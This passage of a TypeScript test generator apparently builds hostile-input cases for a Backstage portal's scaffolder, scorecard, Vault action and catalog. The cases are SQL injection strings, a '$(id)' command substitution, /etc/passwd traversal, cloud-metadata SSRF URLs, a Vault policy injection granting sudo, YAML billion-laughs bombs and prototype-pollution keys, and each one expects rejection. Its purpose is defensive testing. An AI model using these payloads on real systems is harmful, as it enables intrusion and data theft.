      path: '/scaffolder/v2/tasks',
      body: { templateRef: value, values: { name: '../x' } },
      // no template (404), or no entity reference at all: refused by the
      // request guard (400) before upstream would throw a TypeError (500)
      expect: reject,
    });
  }
  for (const [what, v] of wrongTypes) {
    http.push({
      id: `scaffolder/templateRef-type/${what}`,
      category: refCategory,
      method: 'POST',
      path: '/scaffolder/v2/tasks',
      body: { templateRef: v, values: {} },
      expect: reject,
    });
  }
  const sample = strings.filter((_, i) => i % 7 === 0);
  for (const { label, value } of sample) {
    for (const suffix of ['', '/events']) {
      http.push({
        id: `scaffolder/task-id${suffix}/${label}`,
        category: refCategory,
        method: 'GET',
        path: `/scaffolder/v2/tasks/${enc(value)}${suffix}`,
        // no UUID: 404 from the request guard; a lone surrogate fails URL
        // decoding (400) before the route
        expect: reject,
      });
    }
  }
  const listQueries: [string, string, Expectation][] = [
    ['negative-limit', 'limit=-1', reject],
    [
      'order-injection',
      `order=${enc('desc:created_at; DROP TABLE tasks')}`,
      reject,
    ],
    ['created-by-object', 'createdBy[a]=b', reject],
    [
      'status-injection',
      `status=${enc("' OR 1=1 --")}`,
      { kind: 'rejectOrEmpty', isEmpty: (b: any) => b?.tasks?.length === 0 },
    ],
  ];
  for (const [id, query, expect] of listQueries) {
    http.push({
      id: `scaffolder/task-list/${id}`,
      category: refCategory,
      method: 'GET',
      path: `/scaffolder/v2/tasks?${query}`,
      expect,
    });
  }

  // Parameters that pass the schema: only as dry runs (a real task would
  // provision). Free text must stay data.
  const textSample = strings.filter(
    s =>
      /expression|nunjucks|command|backticks|semicolon|quotes|newline|crlf|sql-or|rtl|zero-width|emoji|homoglyph|script|proto-key|format/.test(
        s.label,
      ) && s.value.trim() !== '',
  );
  for (const { label, value } of textSample) {
    dryRun(
      `description/${label}`,
      { ...VALID_GOLDEN_PATH_VALUES, description: value },
      accept(
        'free text: rendered as a literal (JSON-escaped in YAML and Go), never evaluated',
      ),
    );
  }
  task('description/huge-1mb', {
    ...VALID_GOLDEN_PATH_VALUES,
    description: hugeStrings()[0].value,
  });
  // owner and system: a pattern refuses what is no entity reference; a
  // reference to no entity passes the schema, and the check-owner /
  // check-system steps (catalog:fetch) stop the task before anything exists
  const CATALOG_FETCH_500 =
    'upstream: catalog:fetch throws a plain Error for a missing entity, so a dry run answers 500 with "Entity … not found"; a real task fails at check-owner / check-system before any step with side effects (the real-task cases)';
  for (const value of [
    '../../etc/passwd',
    'group:default/platform-team\nspec:\n  owner: evil',
    "' OR 1=1 --",
    '${{ secrets.backstageToken }}',
    'group:default/\u202Eevil',
  ]) {
    task(`owner/${JSON.stringify(value)}`, {
      ...VALID_GOLDEN_PATH_VALUES,
      owner: value,
    });
  }
  dryRun(
    'owner/"group:default/ghost-team"',
    { ...VALID_GOLDEN_PATH_VALUES, owner: 'group:default/ghost-team' },
    known([500], CATALOG_FETCH_500),
  );
  for (const value of ['../../x', ':::', 'system:default/a\u0000b']) {
    task(`system/${JSON.stringify(value)}`, {
      ...VALID_GOLDEN_PATH_VALUES,
      system: value,
    });
  }
  dryRun(
    'system/"system:default/ghost"',
    { ...VALID_GOLDEN_PATH_VALUES, system: 'system:default/ghost' },
    known([500], CATALOG_FETCH_500),
  );
  dryRun(
    'extra-key/__proto__',
    JSON.parse(
      `{"__proto__":{"name":"evil"},${JSON.stringify(
        VALID_GOLDEN_PATH_VALUES,
      ).slice(1)}`,
    ),
    accept('an unknown key: ignored'),
  );
  dryRun(
    'extra-key/constructor',
    { ...VALID_GOLDEN_PATH_VALUES, constructor: { prototype: { x: 1 } } },
    known(
      [500],
      "upstream: a parameter named constructor makes the scaffolder's templating throw 'Template record key constructor is reserved' outside its input checks (500; nothing runs)",
    ),
  );

  // repoUrl: the template's pattern (what the RepoUrlPicker produces for
  // myorg) refuses every other host, owner or form at submission
  const repoUrls: [string, string][] = [
    ['repo-traversal', 'github.com?owner=myorg&repo=../escape'],
    ['repo-encoded-dots', 'github.com?owner=myorg&repo=%2e%2e'],
    ['other-owner', 'github.com?owner=alice&repo=hostile-probe'],
    ['gitlab-host', 'gitlab.com?owner=myorg&repo=hostile-a'],
    ['unknown-host', 'evil.example.com?owner=myorg&repo=hostile-b'],
    ['url-instead-of-picker', 'https://github.com/myorg/hostile-c'],
    ['metadata-host', '169.254.169.254?owner=myorg&repo=hostile-d'],
    ['missing-repo', 'github.com?owner=myorg'],
    ['missing-owner', 'github.com?repo=hostile-e'],
    ['owner-traversal', 'github.com?owner=../../admin&repo=hostile-f'],
    ['unknown-org', 'github.com?owner=evilorg&repo=hostile-g'],
    ['empty-query', 'github.com?'],
    ['command-substitution', '$(id)?owner=myorg&repo=hostile-h'],
    ['secrets-expression', '${{ secrets.backstageToken }}'],
    ['sql', "' OR 1=1 --"],
    ['rtl', 'github.com\u202E?owner=myorg&repo=hostile-i'],
    ['file-url', 'file:///etc/passwd?owner=myorg&repo=hostile-j'],
    ['homoglyph-host', 'g\u0456thub.com?owner=myorg&repo=hostile-k'],
  ];
  for (const [id, repoUrl] of repoUrls) {
    task(`repoUrl/${id}`, {
      ...VALID_GOLDEN_PATH_VALUES,
      name: `hostile-${id}`.slice(0, 50),
      repoUrl,
    });
  }

  // Real tasks: the input passes the schema, a step refuses it before any
  // step with side effects runs.
  tasks.push(
    {
      id: 'scaffolder/real-task/owner-not-in-catalog',
      category: 'scaffolder: real tasks refused by a step',
      values: {
        ...VALID_GOLDEN_PATH_VALUES,
        name: 'hostile-ghost-owner',
        owner: 'group:default/ghost-team',
      },
      failsAt: 'check-owner',
      message: /Entity group:default\/ghost-team not found/,
    },
    {
      id: 'scaffolder/real-task/system-not-in-catalog',
      category: 'scaffolder: real tasks refused by a step',
      values: {
        ...VALID_GOLDEN_PATH_VALUES,
        name: 'hostile-ghost-system',
        system: 'system:default/ghost',
      },
      failsAt: 'check-system',
      message: /Entity system:default\/ghost not found/,
    },
  );
  return { http, tasks };
}

/** Scorecard API: path and query parameters, exemption and evaluate bodies. */
function scorecardCases(strings: HostileString[], now: number): HttpCase[] {
  const DAY = 86_400_000;
  const inAMonth = new Date(now + 30 * DAY).toISOString();
  const cases: HttpCase[] = [];
  const pathCategory = 'scorecard: path parameters';
  const queryCategory = 'scorecard: query parameters';
  const bodyCategory = 'scorecard: exemption and evaluate bodies';
  const get = (
    id: string,
    category: string,
    path: string,
    expect: Expectation,
  ) =>
    cases.push({
      id: `scorecard/${id}`,
      category,
      method: 'GET',
      path,
      expect,
    });
  // ?owner= and ?entityRef=: an entity reference, no control characters;
  // one that parses is a filter that matches nothing (or, for a real
  // owner, that owner's entities)
  const refQuery = (v: string): Expectation => {
    if (v === 'group:default/platform-team') {
      return accept('a real owner: its entities');
    }
    if (!arrivesDecoded(v))
      return { kind: 'rejectOrEmpty', isEmpty: itemsEmpty };
    if (v === '' || hasControl(v) || v.length > 512) return reject;
    return { kind: 'rejectOrEmpty', isEmpty: itemsEmpty };
  };
  const segment = (v: string) => (v === '' ? known([404], BARE_404) : reject);
  const numberExpect = (v: string, min: number, max: number) => {
    const n = Number(v);
    return Number.isInteger(n) && n >= min && n <= max
      ? accept('a number in range')
      : reject;
  };

  for (const { label, value } of strings) {
    const e = enc(value);
    // path parameters: letters, digits, ".", "_", "-"; otherwise 400, and a
    // well-formed name of no entity is a 404
    get(
      `path/name/${label}`,
      pathCategory,
      `/scorecard/v1/entities/component/default/${e}`,
      segment(value),
    );
    get(
      `path/namespace/${label}`,
      pathCategory,
      `/scorecard/v1/entities/component/${e}/order-service`,
      segment(value),
    );
    get(
      `path/kind/${label}`,
      pathCategory,
      `/scorecard/v1/entities/${e}/default/order-service`,
      segment(value),
    );
    get(
      `path/history-name/${label}`,
      pathCategory,
      `/scorecard/v1/entities/component/default/${e}/history`,
      segment(value),
    );
    // query parameters
    get(
      `query/since/${label}`,
      queryCategory,
      `/scorecard/v1/entities/component/default/order-service/history?since=${e}`,
      reject,
    );
    get(
      `query/owner/${label}`,
      queryCategory,
      `/scorecard/v1/entities?owner=${e}`,
      refQuery(value),
    );
    for (const param of ['check', 'dimension', 'level']) {
      get(
        `query/${param}/${label}`,
        queryCategory,
        `/scorecard/v1/entities?${param}=${e}`,
        scorecardFilterExpectation(value),
      );
    }
    get(
      `query/status/${label}`,
      queryCategory,
      `/scorecard/v1/entities?status=${e}`,
      reject,
    );
    get(
      `query/limit/${label}`,
      queryCategory,
      `/scorecard/v1/entities?limit=${e}`,
      numberExpect(value, 1, 1000),
    );
    get(
      `query/offset/${label}`,
      queryCategory,
      `/scorecard/v1/entities?offset=${e}`,
      numberExpect(value, 0, Number.MAX_SAFE_INTEGER),
    );
    get(
      `query/groupBy/${label}`,
      queryCategory,
      `/scorecard/v1/report?groupBy=${e}`,
      reject,
    );
    get(
      `query/exemptions-entityRef/${label}`,
      queryCategory,
      `/scorecard/v1/exemptions?entityRef=${e}`,
      refQuery(value),
    );
    get(
      `query/unknown-key/${label}`,
      queryCategory,
      `/scorecard/v1/entities?${e}=1`,
      value === '' || value === '__proto__'
        ? accept(
            'an empty or __proto__ query key is dropped by the query parser',
          )
        : reject,
    );

    // exemption bodies: the entity is payment-service, never order-service
    const exemption = {
      entityRef: 'component:default/payment-service',
      checkId: 'runbook',
      reason: 'Runbook lives in the wiki until Q3',
      expiresAt: inAMonth,
    };
    cases.push({
      id: `scorecard/exemption/entityRef/${label}`,
      category: bodyCategory,
      method: 'POST',
      path: '/scorecard/v1/exemptions',
      body: { ...exemption, entityRef: value },
      expect:
        value === 'group:default/platform-team'
          ? accept('a real entity: the exemption is stored (and removed after)')
          : reject,
    });
    cases.push({
      id: `scorecard/exemption/checkId/${label}`,
      category: bodyCategory,
      method: 'POST',
      path: '/scorecard/v1/exemptions',
      body: { ...exemption, checkId: value },
      expect: reject,
    });
    const reason = value.trim();
    cases.push({
      id: `scorecard/exemption/reason/${label}`,
      category: bodyCategory,
      method: 'POST',
      path: '/scorecard/v1/exemptions',
      body: { ...exemption, reason: value },
      expect:
        reason.length >= 3 &&
        reason.length <= 2000 &&
        !hasControlExceptLineBreaks(value) &&
        !hasLoneSurrogate(value)
          ? accept('free text within the limits: stored as sent')
          : reject,
    });
    cases.push({
      id: `scorecard/exemption/expiresAt/${label}`,
      category: bodyCategory,
      method: 'POST',
      path: '/scorecard/v1/exemptions',
      body: { ...exemption, expiresAt: value },
      expect: reject,
    });
    cases.push({
      id: `scorecard/exemption/delete/${label}`,
      category: bodyCategory,
      method: 'DELETE',
      path: `/scorecard/v1/exemptions?entityRef=${e}&checkId=runbook`,
      expect: reject,
    });
    cases.push({
      id: `scorecard/evaluate/${label}`,
      category: bodyCategory,
      method: 'POST',
      path: '/scorecard/v1/evaluate',
      body: { entityRefs: [value] },
      expect:
        value === 'group:default/platform-team'
          ? accept('a real entity: evaluated')
          : reject,
    });
  }

  // the body rules of an exemption
  const base = {
    entityRef: 'component:default/payment-service',
    checkId: 'runbook',
    reason: 'Runbook lives in the wiki until Q3',
  };
  const dates: [string, unknown][] = [
    ['past', '2001-01-01'],
    ['yesterday', new Date(now - DAY).toISOString()],
    ['now', new Date(now).toISOString()],
    ['over-a-year', new Date(now + 367 * DAY).toISOString()],
    ['far-future', '9999-12-31'],
    ['year-275760', '+275760-09-13'],
    ['month-13', '2027-13-01'],
    ['not-a-date', '2027-02-xx'],
    ['epoch-number', 1_900_000_000_000],
    ['null', null],
    ['array', ['2027-01-01']],
    ['long-string', `${inAMonth.slice(0, 10)}${'0'.repeat(100)}`],
  ];
  for (const [id, expiresAt] of dates) {
    cases.push({
      id: `scorecard/exemption/date/${id}`,
      category: bodyCategory,
      method: 'POST',
      path: '/scorecard/v1/exemptions',
      body: { ...base, expiresAt },
      expect: reject,
    });
  }
  for (const { label, value } of hugeStrings()) {
    cases.push({
      id: `scorecard/exemption/reason/${label}`,
      category: bodyCategory,
      method: 'POST',
      path: '/scorecard/v1/exemptions',
      body: { ...base, reason: value, expiresAt: inAMonth },
      expect: reject,
    });
  }
  const bodies: [string, unknown][] = [
    ['empty', {}],
    ['array', []],
    ['string', 'exemption'],
    ['number', 5],
    ['null', null],
    ['extra-key', { ...base, expiresAt: inAMonth, author: 'user:default/ceo' }],
    ['reason-number', { ...base, reason: 12345, expiresAt: inAMonth }],
    [
      'checkId-unknown',
      { ...base, checkId: 'no-such-check', expiresAt: inAMonth },
    ],
    [
      'entity-missing',
      {
        ...base,
        entityRef: 'component:default/no-such-service',
        expiresAt: inAMonth,
      },
    ],
  ];
  for (const [id, body] of bodies) {
    cases.push({
      id: `scorecard/exemption/body/${id}`,
      category: bodyCategory,
      method: 'POST',
      path: '/scorecard/v1/exemptions',
      body,
      expect: reject,
    });
  }
  cases.push({
    id: 'scorecard/exemption/body/proto-key',
    category: bodyCategory,
    method: 'POST',
    path: '/scorecard/v1/exemptions',
    rawBody: `{"__proto__":{"author":"user:default/ceo"},${JSON.stringify({
      ...base,
      expiresAt: inAMonth,
    }).slice(1)}`,
    expect: reject,
  });
  for (const [id, rawBody] of [
    ['truncated', '{"entityRef":'],
    ['deep', deepJson({ entityRef: 'DEEP' }, 10_000, 'array')],
    ['not-json', 'reason=because'],
  ]) {
    cases.push({
      id: `scorecard/exemption/raw/${id}`,
      category: bodyCategory,
      method: 'POST',
      path: '/scorecard/v1/exemptions',
      rawBody,
      expect: reject,
    });
  }
  const evaluateBodies: [string, unknown][] = [
    ['empty-list', { entityRefs: [] }],
    [
      '101-refs',
      {
        entityRefs: Array.from(
          { length: 101 },
          (_, i) => `component:default/s${i}`,
        ),
      },
    ],
    ['not-a-list', { entityRefs: 'component:default/order-service' }],
    ['numbers', { entityRefs: [1, 2] }],
    [
      'extra-key',
      { entityRefs: ['component:default/payment-service'], all: true },
    ],
  ];
  for (const [id, body] of evaluateBodies) {
    cases.push({
      id: `scorecard/evaluate/body/${id}`,
      category: bodyCategory,
      method: 'POST',
      path: '/scorecard/v1/evaluate',
      body,
      expect: reject,
    });
  }
  const numbers: [string, string][] = [
    ['negative', '-5'],
    ['zero', '0'],
    ['huge', '1001'],
    ['float', '1.5'],
    ['hex', '0x10'],
    ['exponent', '1e3'],
    ['infinity', 'Infinity'],
    ['repeated', '1&limit=2'],
  ];
  for (const [id, value] of numbers) {
    get(
      `query/limit-number/${id}`,
      queryCategory,
      `/scorecard/v1/entities?limit=${value}`,
      ['0x10', '1e3'].includes(value) && Number(value) <= 1000
        ? accept('a number in range (Number() reads it)')
        : reject,
    );
  }
  // a 64 kB path: the HTTP server refuses it before routing (431, no body)
  get(
    'path/name/length-64k',
    pathCategory,
    `/scorecard/v1/entities/component/default/${'n'.repeat(64 * 1024)}`,
    known(
      [431, 0],
      'Node.js refuses headers over 16 kB with 431 (and closes the connection) before any handler runs, so there is no JSON body',
    ),
  );
  return cases;
}

/** ?check=, ?dimension=, ?level= of GET /scorecard/v1/entities */
function scorecardFilterExpectation(value: string): Expectation {
  if (value === '') return accept('an empty filter is no filter');
  if (!arrivesDecoded(value)) {
    return { kind: 'rejectOrEmpty', isEmpty: itemsEmpty };
  }
  if (hasControl(value) || value.length > 64) {
    return reject;
  }
  return { kind: 'rejectOrEmpty', isEmpty: itemsEmpty };
}

/** vault:create-namespace: dry runs over HTTP and in-process calls. */
function vaultCases(strings: HostileString[]): {
  http: HttpCase[];
  actions: VaultActionCase[];
} {
  const http: HttpCase[] = [];
  const actions: VaultActionCase[] = [];
  const valid = { namespaceName: 'hostile-probe', teamName: 'payments-squad' };
  const inputs: [string, string, unknown][] = [];
  for (const { label, value } of [...strings, ...hugeStrings()]) {
    inputs.push([`namespaceName/${label}`, 'namespaceName', value]);
    inputs.push([`teamName/${label}`, 'teamName', value]);
  }
  for (const [what, v] of [
    ['number', 42],
    ['boolean', true],
    ['null', null],
    ['array', ['a']],
    ['object', { a: 1 }],
    [
      'policy-injection',
      'team"} path "sys/*" { capabilities = ["sudo"] } x {"',
    ],
    ['hcl-newline', 'team\npath "sys/*" {'],
    ['trailing-hyphen', 'team-'],
    ['uppercase', 'Team'],
    ['length-51', `a${'b'.repeat(50)}`],
  ] as [string, unknown][]) {
    inputs.push([`namespaceName/${what}`, 'namespaceName', v]);
    inputs.push([`teamName/${what}`, 'teamName', v]);
  }
  for (const [id, field, value] of inputs) {
    const ok = typeof value === 'string' && isVaultName(value);
    const expect: Expectation = ok ? accept('a valid Vault name') : reject;
    const input = { ...valid, [field]: value };
    actions.push({
      id: `vault/action/${id}`,
      category: 'vault: action in process (real, not a dry run)',
      input,
      expect,
    });
    // over HTTP only strings (the dry run's values are templated in)
    if (typeof value === 'string' && value.length < MB) {
      http.push({
        id: `vault/dry-run/${id}`,
        category: 'vault: action through the scaffolder (dry run)',
        method: 'POST',
        path: '/scaffolder/v2/dry-run',
        vaultDryRun: input,
        expect: ok ? accept('a valid Vault name') : reject,
      });
    }
  }
  return { http, actions };
}

/** Catalog files for url locations: YAML bombs, malformed YAML and more. */
function locationFileCases(): LocationFileCase[] {
  const category = 'catalog: YAML files via url locations';
  const valid = (name: string, extra = '') =>
    `apiVersion: backstage.io/v1alpha1\nkind: Component\nmetadata:\n  name: ${name}\n${extra}spec: {type: service, owner: group:default/platform-team, lifecycle: production}\n`;
  const bomb: string[] = [
    'a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]',
  ];
  for (let i = 1; i < 12; i++) {
    const prev = String.fromCharCode(96 + i);
    const cur = String.fromCharCode(97 + i);
    bomb.push(`${cur}: &${cur} [${Array(9).fill(`*${prev}`).join(',')}]`);
  }
  const files: [string, string, Expectation][] = [
    ['billion-laughs.yaml', `${bomb.join('\n')}\n`, reject],
    [
      'billion-laughs-in-entity.yaml',
      valid('bomb', `  x:\n${bomb.map(l => `    ${l}`).join('\n')}\n`),
      reject,
    ],
    [
      'anchor-merge-name.yaml',
      'base: &b {name: "../evil"}\napiVersion: backstage.io/v1alpha1\nkind: Component\nmetadata:\n  <<: *b\nspec: {type: service, owner: group:default/platform-team, lifecycle: production}\n',
      reject,
    ],
    [
      'unterminated-quote.yaml',
      'apiVersion: backstage.io/v1alpha1\nkind: Component\nmetadata:\n  name: "unterminated\nspec: [\n',
      reject,
    ],
    [
      'tab-indent.yaml',
      'apiVersion: backstage.io/v1alpha1\nkind: Component\nmetadata:\n\tname: x\n',
      reject,
    ],
    ['scalar.yaml', 'just a string\n', reject],
    ['list.yaml', '- a\n- b\n', reject],
    ['bad-second-document.yaml', `${valid('first-ok')}---\n: : :\n`, reject],
    [
      'deep-flow-sequence.yaml',
      valid('deep', `  x: ${'['.repeat(50_000)}${']'.repeat(50_000)}\n`),
      reject,
    ],
    [
      'deep-flow-mapping.yaml',
      valid(
        'deep-map',
        `  x: ${'{a: '.repeat(20_000)}1${'}'.repeat(20_000)}\n`,
      ),
      reject,
    ],
    [
      'huge-description.yaml',
      valid('huge', `  description: ${'x'.repeat(2_500_000)}\n`),
      reject,
    ],
    [
      'js-function-tag.yaml',
      'apiVersion: backstage.io/v1alpha1\nkind: Component\nmetadata:\n  name: !!js/function "function(){}"\nspec: !!binary aGVsbG8=\n',
      reject,
    ],
    ['nul-in-name.yaml', valid('"a\\0b"'), reject],
    ['rtl-in-name.yaml', valid('admin\u202Eexe'), reject],
    ['traversal-name.yaml', valid('"../../etc/passwd"'), reject],
    [
      'location-traversal.yaml',
      'apiVersion: backstage.io/v1alpha1\nkind: Location\nmetadata: {name: traversal}\nspec:\n  targets: [../../../../etc/passwd, "file:/etc/passwd", "/etc/passwd"]\n',
      reject,
    ],
    [
      'location-file-type.yaml',
      'apiVersion: backstage.io/v1alpha1\nkind: Location\nmetadata: {name: traversal-file}\nspec:\n  type: file\n  target: /etc/passwd\n',
      reject,
    ],
    [
      'placeholder-traversal.yaml',
      'apiVersion: backstage.io/v1alpha1\nkind: API\nmetadata: {name: placeholder}\nspec:\n  type: openapi\n  lifecycle: production\n  owner: group:default/platform-team\n  definition:\n    $text: ../../../../../../etc/passwd\n',
      reject,
    ],
    [
      'placeholder-file-url.yaml',
      'apiVersion: backstage.io/v1alpha1\nkind: API\nmetadata: {name: placeholder-file}\nspec:\n  type: openapi\n  lifecycle: production\n  owner: group:default/platform-team\n  definition:\n    $text: file:///etc/passwd\n',
      reject,
    ],
    [
      'placeholder-metadata-service.yaml',
      'apiVersion: backstage.io/v1alpha1\nkind: API\nmetadata: {name: placeholder-ssrf}\nspec:\n  type: openapi\n  lifecycle: production\n  owner: group:default/platform-team\n  definition:\n    $text: http://169.254.169.254/latest/meta-data/\n',
      reject,
    ],
    [
      'user-kind-not-allowed.yaml',
      'apiVersion: backstage.io/v1alpha1\nkind: User\nmetadata: {name: sneaky-admin}\nspec: {memberOf: [platform-team]}\n',
      reject,
    ],
    [
      'template-kind-not-allowed.yaml',
      'apiVersion: scaffolder.backstage.io/v1beta3\nkind: Template\nmetadata: {name: evil-template}\nspec: {owner: group:default/platform-team, type: service, steps: []}\n',
      reject,
    ],
    [
      'proto-keys.yaml',
      valid(
        'proto-keys',
        '  __proto__: {polluted: yes}\n  constructor: {prototype: {polluted: yes}}\n',
      ),
      accept('unknown metadata keys are data; nothing is polluted'),
    ],
    ['empty.yaml', '', accept('an empty file holds no entities')],
    [
      'replacement-chars-in-name.yaml',
      'apiVersion: backstage.io/v1alpha1\nkind: Component\nmetadata:\n  name: bad\uFFFD\uFFFD\n',
      reject,
    ],
  ];
  const cases: LocationFileCase[] = files.map(([file, content, expect]) => ({
    id: `catalog/yaml/dry-run/${file}`,
    category,
    file,
    content,
    mode: 'dry-run',
    expect,
  }));
  // registered for real: the catalog answers 201 at once; the processing
  // error must then show through the API (unprocessed entities)
  const registered: [string, RegExp][] = [
    ['billion-laughs.yaml', /Excessive alias count/],
    ['unterminated-quote.yaml', /YAML error|Missing closing/],
    ['deep-flow-sequence.yaml', /YAML error|Maximum call stack/],
    ['huge-description.yaml', /over the catalog's limit/],
    [
      'location-traversal.yaml',
      /Unable to read url|not allowed|Invalid GitHub URL/,
    ],
    ['placeholder-file-url.yaml', /not allowed/],
  ];
  for (const [file, processingError] of registered) {
    cases.push({
      id: `catalog/yaml/registered/${file}`,
      category: 'catalog: YAML files registered (async processing errors)',
      file,
      content: files.find(f => f[0] === file)![1],
      mode: 'register',
      expect: reject,
      processingError,
    });
  }
  return cases;
}

/**
 * The whole table, deterministic for a seed and a time (exemption expiry
 * dates are relative to `now`).
 */
export function generateHostileInputs(
  seed = 11,
  now = Date.UTC(2026, 0, 1),
): HostileTable {
  const strings = hostileStrings(seed);
  const scaffolder = scaffolderCases(strings);
  const vault = vaultCases(strings);
  const table: HostileTable = {
    http: [
      ...catalogEntityCases(strings),
      ...catalogLocationAndReadCases(strings),
      ...scaffolder.http,
      ...scorecardCases(strings, now),
      ...vault.http,
    ],
    tasks: scaffolder.tasks,
    locationFiles: locationFileCases(),
    vaultActions: vault.actions,
  };
  const ids = new Set<string>();
  for (const c of [
    ...table.http,
    ...table.tasks,
    ...table.locationFiles,
    ...table.vaultActions,
  ]) {
    if (ids.has(c.id)) throw new Error(`Duplicate hostile case id ${c.id}`);
    ids.add(c.id);
  }
  return table;
}
